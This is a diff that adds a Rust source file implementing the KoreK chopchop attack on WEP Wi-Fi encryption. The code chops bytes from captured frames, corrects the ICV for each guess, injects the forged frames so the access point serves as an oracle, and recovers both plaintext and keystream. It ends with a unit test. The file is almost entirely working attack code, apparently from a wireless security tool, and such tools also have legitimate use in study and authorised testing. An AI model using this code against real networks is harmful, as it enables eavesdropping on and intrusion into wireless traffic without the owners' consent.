@@ -0,0 +1,237 @@
+//The KoreK chopchop attack, which decrypts a frame byte by byte by using the AP as an ICV oracle
+
+use std::{
+    sync::atomic::{AtomicBool, Ordering},
+    time::{Duration, Instant},
+};
+
+use anyhow::Context;
+use ieee80211::{DSStatus, DataFrameTrait, Frame, FrameLayer, FrameTrait, MacAddress};
+
+use crate::{
+    crc32::{crc32, truncation_correction},
+    ieee80211::IEEE80211PacketSniffer,
+    plaintext::LLC_SNAP_PREFIX,
+    wep::{WepFrame, WepKeystream},
+};
+
+pub struct ChopChopResult {
+    pub plaintext: Vec<u8>,
+    pub keystream: WepKeystream,
+}
+
+//Removes the last byte of the frame, and fixes up the ICV assuming the byte's plaintext was the guessed one
+//The AP only accepts the chopped frame if the guess was correct
+pub fn chop_frame(frame: &WepFrame, guess: u8) -> WepFrame {
+    let mut body = frame.body[..frame.body.len() - 1].to_vec();
+
+    let len = body.len();
+    for (b, c) in body[len - WepFrame::ICV_SIZE..]
+        .iter_mut()
+        .zip(truncation_correction(guess).to_le_bytes())
+    {
+        *b ^= c;
+    }
+
+    WepFrame {
+        iv: frame.iv,
+        key_idx: frame.key_idx,
+        body,
+    }
+}
+
+pub struct ChopChopAttack<'a> {
+    sniffer: &'a mut IEEE80211PacketSniffer,
+    ap_mac: MacAddress,
+    dev_mac: MacAddress,
+}
+
+impl<'a> ChopChopAttack<'a> {
+    //How often all guesses are injected before giving up on a byte
+    const MAX_ROUNDS: usize = 8;
+    const RESPONSE_TIMEOUT: Duration = Duration::from_millis(250);
+
+    //Chopped frames are sent to multicast addresses with this prefix, with the guess as the last byte
+    //As the AP relays them to the same address, this tells us which guess it accepted
+    const ORACLE_ADDR_PREFIX: [u8; 5] = [0x01, 0x00, 0x5e, 0x7f, 0xc0];
+
+    pub fn new(
+        sniffer: &'a mut IEEE80211PacketSniffer,
+        ap_mac: MacAddress,
+        dev_mac: MacAddress,
+    ) -> ChopChopAttack<'a> {
+        ChopChopAttack {
+            sniffer,
+            ap_mac,
+            dev_mac,
+        }
+    }
+
+    pub fn run(
+        &mut self,
+        frame: &WepFrame,
+        mut progress_cb: impl FnMut(usize, usize),
+        should_exit: &AtomicBool,
+    ) -> anyhow::Result<Option<ChopChopResult>> {
+        //The frame has to start with the LLC/SNAP header, which gives us the first keystream bytes for free
+        let min_len = LLC_SNAP_PREFIX.len() + WepFrame::ICV_SIZE;
+        if frame.body.len() <= min_len {
+            return Ok(None);
+        }
+
+        let mut keystream = vec![0u8; frame.body.len()];
+        for ((k, c), p) in keystream.iter_mut().zip(&frame.body).zip(LLC_SNAP_PREFIX) {
+            *k = c ^ p;
+        }
+
+        //Chop off bytes until only the LLC/SNAP header and the ICV are left
+        let num_bytes = frame.body.len() - min_len;
+        let mut cur_frame = frame.clone();
+        while cur_frame.body.len() > min_len {
+            if should_exit.load(Ordering::SeqCst) {
+                return Ok(None);
+            }
+            progress_cb(frame.body.len() - cur_frame.body.len(), num_bytes);
+
+            let Some(guess) = self.guess_last_byte(&cur_frame)? else {
+                return Ok(None);
+            };
+
+            let idx = cur_frame.body.len() - 1;
+            keystream[idx] = cur_frame.body[idx] ^ guess;
+            cur_frame = chop_frame(&cur_frame, guess);
+        }
+        progress_cb(num_bytes, num_bytes);
+
+        //The remaining ICV is the CRC of the (now known) LLC/SNAP header plaintext
+        let header = (0..LLC_SNAP_PREFIX.len())
+            .map(|i| cur_frame.body[i] ^ keystream[i])
+            .collect::<Vec<_>>();
+        for (i, icv_byte) in crc32(&header).to_le_bytes().into_iter().enumerate() {
+            let idx = LLC_SNAP_PREFIX.len() + i;
+            keystream[idx] = cur_frame.body[idx] ^ icv_byte;
+        }
+
+        //Ensure the recovered keystream actually decrypts the original frame
+        let keystream = WepKeystream {
+            iv: frame.iv,
+            keystream,
+        };
+        Ok(frame
+            .decrypt_with_keystream(&keystream)
+            .map(|plaintext| ChopChopResult {
+                plaintext,
+                keystream,
+            }))
+    }
+
+    fn guess_last_byte(&mut self, frame: &WepFrame) -> anyhow::Result<Option<u8>> {
+        let chopped_len = frame.body.len() - 1;
+
+        for _ in 0..Self::MAX_ROUNDS {
+            //Inject the chopped frame for all possible guesses
+            for guess in 0..=u8::MAX {
+                let oracle_addr = self.oracle_addr(guess);
+                let chopped_frame = chop_frame(frame, guess)
+                    .build_data_frame(
+                        DSStatus::FromSTAToDS,
+                        &self.ap_mac,
+                        &self.dev_mac,
+                        &oracle_addr,
+                    )
+                    .unwrap();
+
+                self.sniffer
+                    .inject_frame(&Frame::new(chopped_frame))
+                    .context("failed to inject chopped frame")?;
+            }
+
+            //Wait for the AP to relay the one with the correct guess
+            if let Some(guess) = self.wait_for_relay(chopped_len)? {
+                return Ok(Some(guess));
+            }
+        }
+
+        Ok(None)
+    }
+
+    fn wait_for_relay(&mut self, body_len: usize) -> anyhow::Result<Option<u8>> {
+        self.sniffer
+            .set_timeout(Some(Self::RESPONSE_TIMEOUT))
+            .context("failed to set sniffer timeout")?;
+
+        let start_time = Instant::now();
+        while start_time.elapsed() < Self::RESPONSE_TIMEOUT {
+            let Some(packet) = self
+                .sniffer
+                .sniff_packet()
+                .context("failed to sniff relayed chopchop frame")?
+            else {
+                break;
+            };
+            let frame = packet.ieee80211_frame();
+
+            //Check if this is one of our frames being relayed by the AP
+            let Some(FrameLayer::Data(data)) = frame.next_layer() else {
+                continue;
+            };
+            if !data.protected()
+                || !matches!(data.ds_status(), DSStatus::FromDSToSTA)
+                || data.transmitter_address() != Some(self.ap_mac)
+            {
+                continue;
+            }
+
+            let Some(dst) = data.destination_address() else {
+                continue;
+            };
+            if dst.as_bytes()[..5] != Self::ORACLE_ADDR_PREFIX {
+                continue;
+            }
+
+            //The AP re-encrypts the frame using a new IV, but its length stays the same
+            if WepFrame::from_data_frame(&data, true)
+                .map_or(false, |relayed| relayed.body.len() == body_len)
+            {
+                return Ok(Some(dst.as_bytes()[5]));
+            }
+        }
+
+        Ok(None)
+    }
+
+    fn oracle_addr(&self, guess: u8) -> MacAddress {
+        let mut addr = [0u8; 6];
+        addr[..5].copy_from_slice(&Self::ORACLE_ADDR_PREFIX);
+        addr[5] = guess;
+        MacAddress::new(addr)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::wep::WepKey;
+
+    #[test]
+    fn test_chop_frame() {
+        let key: WepKey = "0102030405".parse().unwrap();
+        let plaintext = b"\xaa\xaa\x03\x00\x00\x00\x08\x00chopchop";
+        let frame = WepFrame::encrypt(&key, &[7, 8, 9], 0, plaintext);
+
+        //Only the correct guess may result in a valid frame
+        let last_byte = frame.body.len() - 1;
+        let keystream = WepKeystream::from_key(&key, &frame.iv, frame.body.len());
+        let correct_guess = frame.body[last_byte] ^ keystream.keystream[last_byte];
+        for guess in 0..=u8::MAX {
+            assert_eq!(
+                chop_frame(&frame, guess).decrypt(&key).is_some(),
+                guess == correct_guess
+            );
+        }
+
+        //Chopping effectively removes the last payload byte
+        let chopped = chop_frame(&frame, correct_guess).decrypt(&key).unwrap();
+        assert_eq!(chopped, plaintext[..plaintext.len() - 1]);
+    }
+}